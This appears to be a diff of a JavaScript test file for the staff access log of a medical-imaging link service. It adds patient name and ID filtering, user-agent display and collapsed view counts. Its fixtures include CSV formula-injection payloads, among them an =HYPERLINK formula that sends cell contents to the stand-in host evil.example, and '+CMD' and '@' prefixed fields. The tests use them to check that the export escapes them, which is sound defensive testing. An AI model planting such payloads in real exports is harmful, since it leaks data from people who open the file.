@@ -510,7 +510,7 @@ describe('access log', () => {
     const csv = await res.text();
     const lines = csv.split('\r\n');
     expect(lines[0]).toBe(
-      '"time_utc","event","outcome","token_id","study_instance_uid","client_ip","user_agent","bytes","actor","detail"',
+      '"time_utc","event","outcome","token_id","study_instance_uid","patient_name","patient_id","client_ip","user_agent","bytes","actor","detail"',
     );
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv).toContain(`"'@SUM(1+1)"`);
@@ -523,6 +523,53 @@ describe('access log', () => {
       actor: 'staff:bob',
       detail: { event: 'invalid_token' },
     });
+  });
+
+  it('filters by patient name (any case, a word of it) and ID, with the patient in its own columns and in the CSV', async () => {
+    const EVIL = '1.2.826.0.1.3680043.8.498.150';
+    h.source.add({ studyInstanceUid: EVIL, patientName: '+CMD^Ἐλένη', patientId: '@P-150' });
+    await createLink(EVIL);
+    const byName = await staff.get(`/staff/access-log?patientName=${encodeURIComponent('ελενη')}`);
+    expect(byName.status).toBe(200);
+    expect(byName.text).toContain('+CMD, Ἐλένη');
+    expect(byName.text).toContain('@P-150');
+    expect(byName.text).not.toContain('DOE, JANE');
+    const byId = await staff.get('/staff/access-log?patientId=%40p-150&event=token_issued');
+    expect(byId.text).toContain('1 entry');
+    expect(byId.text).toContain(`<td class="uid mono"><a href="/staff/access-log?study=${EVIL}`);
+    const none = await staff.get('/staff/access-log?patientName=nobody');
+    expect(none.text).toContain('No entries');
+    const res = await fetch(`${h.url}/staff/access-log.csv?patientId=%40P-150`, {
+      headers: { cookie: [...staff.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
+    });
+    const csv = await res.text();
+    expect(csv).toContain(`"${EVIL}","'+CMD, Ἐλένη","'@P-150"`);
+    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
+  });
+
+  it('shows a user agent as browser and system, the whole string on demand', async () => {
+    const chrome =
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
+    await fetch(`${h.url}/token?${'u'.repeat(64)}`, { headers: { 'user-agent': chrome } });
+    const page = await staff.get('/staff/access-log?event=invalid_token');
+    expect(page.text).toContain(
+      `<details><summary>Chrome 120 · Windows 10</summary><span class="ua-full">${chrome}</span></details>`,
+    );
+  });
+
+  it('collapses repeated views of a study’s link by one person into one entry with their number', async () => {
+    await createLink(JOHN);
+    for (let i = 0; i < 4; i++) await staff.get(`/staff/studies/${JOHN}`);
+    const page = await staff.get(`/staff/access-log?study=${JOHN}&event=token_displayed`);
+    const rows = page.text.split('<tr>').slice(2);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatch(/[5-9] views since/);
+    const csv = await (
+      await fetch(`${h.url}/staff/access-log.csv?study=${JOHN}&event=token_displayed`, {
+        headers: { cookie: [...staff.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
+      })
+    ).text();
+    expect(csv.split('\r\n').filter((l) => l.includes('"token_displayed"')).length).toBeGreaterThanOrEqual(5);
   });
 
   it('the CSV export needs a session', async () => {
